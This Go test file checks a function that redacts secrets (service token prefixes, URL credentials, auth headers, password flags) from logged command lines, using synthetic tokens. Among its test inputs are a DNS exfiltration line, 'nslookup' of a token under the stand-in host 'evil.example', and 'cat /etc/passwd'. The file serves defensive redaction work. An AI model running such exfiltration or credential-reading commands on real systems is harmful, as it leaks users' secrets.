// SPDX-License-Identifier: Apache-2.0

package profiles

import (
	"slices"
	"strings"
	"testing"
)

// TestRedactArgs: of each command line, what stands between « and » is a
// secret, and all else stays.
// Containment check: Q13.
func TestRedactArgs(t *testing.T) {
	x := strings.Repeat("a1B2", 10)
	for _, line := range [][]string{
		// Tokens of services, wherever they stand.
		{"ghp_«" + x + "»"}, {"gho_«" + x + "»"}, {"github_pat_«" + x + "_" + x + "»"}, {"glpat-«" + x + "»"}, {"sk-«ant-api03-" + x + "-_A»"},
		{"sk-«proj-" + x + "»"}, {"sk_live_«" + x + "»"}, {"rk_live_«" + x + "»"}, {"xoxb-«1234567890-123-abcDEF»"}, {"AKIA«IOSFODNN7EXAMPLE»"},
		{"ASIA«IOSFODNNEXAMPLEX»"}, {"AIza«" + x + "»"}, {"ya29.«" + x + "»"}, {"npm_«" + x + "»"}, {"pypi-«" + x + "»"}, {"hf_«" + x + "»"},
		{"hvs.«" + x + "»"}, {"dckr_pat_«" + x + "»"}, {"gsk_«" + x + "»"}, {"SG.«" + x + "." + x + "»"}, {"shpat_«" + x + "»"}, {"xai-«" + x + "»"},
		{"dop_v1_«" + x + "»"}, {"lin_api_«" + x + "»"}, {"AGE-SECRET-KEY-1«" + strings.ToUpper(x) + "»"}, {"rubygems_«" + x + "»"},
		{"«eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl»"},
		{"curl", "https://h/a?x=1&y=ghp_«" + x + "»#f"}, {"sh", "-c", "echo ghp_«" + x + "» | gh auth login; echo sk-«" + x + "»"},
		{"nslookup", "ghp_«" + x + ".evil.example»"}, {"x-ghp_«" + x + "»"},
		{"-----BEGIN x", "«-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----»\nmore"}, {"a «-----BEGIN PRIVATE KEY-----\nabc»"},
		// Addresses.
		{"git", "clone", "https://u:«hunter2»@h/a.git"}, {"git", "clone", "https://«abcdef»@h/a.git"}, {"https://«abcdef:»@h/"},
		{"psql", "postgres://user:«p:w»@db/x"}, {"redis-cli", "-u", "redis://:«secret»@cache:6379"},
		{"curl", "https://h/p?access_token=«abcd»&x=1"}, {"https://h/p?sv=2&sig=«a%2Fb1»&x"}, {"https://h/?X-Amz-Signature=«abc123»"},
		// Headers and JSON.
		{"curl", "-H", "Authorization: «Bearer abc def»"}, {"curl", "-HAuthorization:«Basic dXNlcjpwYXNzd29yZA==»"},
		{"curl", "-H", "X-Api-Key: «abcdefgh»"}, {"curl", "-H", "PRIVATE-TOKEN: «abcd»"}, {"curl", "-H", "apikey: «abcd»"},
		{"curl", "-H", "Cookie: «a=1; session=abcdefgh»"}, {"curl", "--header=X-Vault-Token: «abcd»"},
		{"git", "-c", "http.extraHeader=Authorization: «Basic abc»", "fetch"},
		{"curl", "-d", `{"user":"u","password":"«pass w»","n":1}`}, {"sh", "-c", `curl -d "{\"api_key\": \"«abcdefgh»\", \"x\": 1}" h`}, {`{"pin_token":«12345»,"a":1}`},
		{"wget", "Bearer «abcdefghijk1»"}, {"curl", "https://hooks.slack.com/services/«T0/B0/" + x + "»"}, {"curl", "https://discord.com/api/webhooks/«123/" + x + "»?wait=1"},
		// Names.
		{"env", "GITHUB_TOKEN=«abcd»", "make"}, {"PGPASSWORD=«p;w&d»"}, {"docker", "run", "-e", "DB_PASS=«hunter2»", "x"}, {"clientSecret=«abcd»"},
		{"tool", "--password=«abcd»"}, {"tool", "--password", "«abcd»", "x"}, {"tool", "-password", "«abcd»"}, {"tool", "--api-key", "«abcdefgh»"},
		{"npm", "config", "set", "//registry.npmjs.org/:_authToken=«abcd-ef»"}, {"kubectl", "--from-literal=password=«abcd»"}, {"-Dapi.token=«abcd»"},
		{"curl", "-u", "user:«hunter2»", "h"}, {"curl", "--user", "u:«p:w d»"}, {"AWS_SECRET_ACCESS_KEY=«wJalr/XUtnFEMI+K7MDENG=»"},
		{"curl", "-H", "X-Api-Key: «" + strings.Repeat(x, 9) + "»"}, {"sh", "-c", "TOKEN=«/abc» x /a/b; API_KEY=«" + strings.Repeat(x, 9) + "» y"},
		{"sh", "-c", "export NPM_TOKEN=«abcd»; tool --password «hunter2» --token='«a b c»' x"}, {"bash", "-c", `PASSWORD="«a bc»" ./run --secret "«c de»"`},
		// What is none.
		{"cat", "/etc/passwd"}, {"python3", "-m", "http.server"}, {"pip", "install", "sk-learn-contributors-package"}, {"sort", "--key=2,2", "--key", "1"},
		{"npm", "run", "npm_config_user_agent_and_more"}, {"git", "clone", "git@github.com:a/b.git"}, {"ssh://git@github.com/a/b"}, {"https://h:443/a@b"},
		{"docker", "login", "--password-stdin", "registry"}, {"tool", "--token-file=/run/secrets/token"}, {"openssl", "--key", "/etc/ssl/private/key.pem"},
		{"curl", "--key", "./key.pem1"}, {"sh", "-c", "tool --token=$TOKEN --password \"$PASSWORD\" --secret=$(cat x) --key '%s'"}, {"PWD=/home/u"}, {"OLDPWD=abcd"},
		{"docker", "run", "-u", "1000:1000", "image:latest"}, {"llm", "--max-tokens", "4096", "--tokens=16384"}, {"tool", "--password", "-x"}, {"-p", "abcd"},
		{"git", "commit", "-m", "auth: say who it is"}, {"a=b", "x: y", "=", ":", " ", "", "--", "--token", "--token=", "token=abc"}, {"task-" + x, "desk-" + x},
		{"go", "test", "-run", "TestTokens/key=1"}, {"--author=Jane Doe"}, {"-----BEGIN CERTIFICATE-----\nabc"}, {"Basic English lessons here"},
	} {
		var args, want []string
		secrets := 0
		for _, arg := range line {
			var got, clean strings.Builder
			for rest := arg; rest != ""; {
				before, after, _ := strings.Cut(rest, "«")
				secret, behind, found := strings.Cut(after, "»")
				got.WriteString(before + secret)
				clean.WriteString(before)
				if found {
					clean.WriteString(redacted)
					secrets++
				}
				rest = behind
			}
			args, want = append(args, got.String()), append(want, clean.String())
		}
		given := slices.Clone(args)
		clean, n := RedactArgs(args)
		if !slices.Equal(clean, want) || n != secrets {
			t.Errorf("%q\nbecame %q, %d;\n  want %q, %d", args, clean, n, want, secrets)
		}
		if !slices.Equal(args, given) {
			t.Errorf("%q was changed itself", given)
		}
		if again, n := RedactArgs(clean); n != 0 && !slices.Equal(again, clean) {
			t.Errorf("%q became %q at the second time", clean, again)
		}
	}
}

// TestRedactArgsOfServices: a token of each service that is known is taken out, wherever it stands, and LooksSecret knows it, too. Its
// beginning alone, and what goes on as names do, stays.
// Containment check: Q13.
func TestRedactArgsOfServices(t *testing.T) {
	for _, p := range secretPrefixes {
		token := p.prefix + strings.Repeat("a1B2", 10)
		if !LooksSecret("X", token) {
			t.Errorf("LooksSecret does not know %s", token)
		}
		for _, at := range []string{"%", "--x=%", "https://h/?y=%&z", `{"x":"%"}`, "X-Y: %", "echo % | cat", "'%'", "a.%"} {
			arg := strings.ReplaceAll(at, "%", token)
			want := strings.ReplaceAll(at, "%", p.prefix+redacted)
			if clean, n := RedactArgs([]string{"tool", arg}); n != 1 || clean[1] != want {
				t.Errorf("%q became %q, %d", arg, clean[1], n)
			}
		}
		for _, name := range []string{p.prefix, p.prefix + "abc", p.prefix + "names-of-something-in-small-letters"} {
			if clean, n := RedactArgs([]string{"tool", name}); n != 0 {
				t.Errorf("%q became %q", name, clean[1])
			}
		}
	}
}

// TestRedactArgsIsQuick: no command line of the size of an event's takes long, whatever it holds.
func TestRedactArgsIsQuick(t *testing.T) {
	for _, part := range []string{"sk-", "-", "a=", "token=", "?token=a&", "token: ", `"token":`, "://", "://a@", "-----BEGIN ", "-----BEGIN PRIVATE KEY", "Bearer ", " --token ", "eyJ.", `\"`,
		"x-key: ", "x-sig: ", "/api/webhooks/", "token=/a/", "tokens=1", "s-", " -key "} {
		long := strings.Repeat(part, 1<<18/len(part))
		RedactArgs([]string{"--token", long, part, " " + long}) // if it were quadratic, this test would not end in time
	}
}

// FuzzRedactArgs: whatever is there, what is taken out is in the place of something, and no argument is lost.
// Containment check: P01.
func FuzzRedactArgs(f *testing.F) {
	f.Add("--token", "abcd")
	f.Add("x", `{"a_token":"b c`+"\xff")
	f.Fuzz(func(t *testing.T, flag, arg string) {
		clean, n := RedactArgs([]string{flag, arg})
		if len(clean) != 2 || n == 0 && (clean[0] != flag || clean[1] != arg) || n > 0 && !strings.Contains(clean[0]+clean[1], redacted) {
			t.Errorf("%q %q became %q, %d", flag, arg, clean, n)
		}
	})
}
